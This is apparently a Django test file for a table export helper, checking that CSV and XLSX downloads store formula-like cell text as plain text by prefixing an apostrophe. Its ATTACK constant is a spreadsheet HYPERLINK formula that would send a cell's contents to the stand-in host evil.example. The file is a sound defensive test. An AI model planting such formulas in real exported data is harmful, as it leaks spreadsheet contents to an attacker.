"""List downloads: text that a spreadsheet would run as a formula is written as text."""

import csv
import io

from django.test import SimpleTestCase
from openpyxl import load_workbook

from lib.tables import table_response

ATTACK = '=HYPERLINK("http://evil.example/?"&A3,"x")'


class TableResponseTests(SimpleTestCase):
    rows = [[ATTACK, "+1 555", "@SUM(A1)", "-2+3", -5, "plain"]]

    def test_xlsx_keeps_formula_text_as_text_and_numbers_as_numbers(self):
        response = table_response("xlsx", "list", ["a", "b", "c", "d", "e", "f"], self.rows)
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = list(sheet.iter_rows(min_row=2, values_only=False))[0]
        self.assertEqual([cell.data_type for cell in cells[:4]], ["s", "s", "s", "s"])
        self.assertEqual(cells[0].value, "'" + ATTACK)
        self.assertEqual((cells[4].value, cells[4].data_type), (-5, "n"))
        self.assertEqual(cells[5].value, "plain")

    def test_csv_prefixes_formula_text_with_an_apostrophe(self):
        response = table_response("csv", "list", ["a", "b", "c", "d", "e", "f"], self.rows)
        row = list(csv.reader(io.StringIO(response.content.decode())))[1]
        self.assertEqual(row, ["'" + ATTACK, "'+1 555", "'@SUM(A1)", "'-2+3", "-5", "plain"])
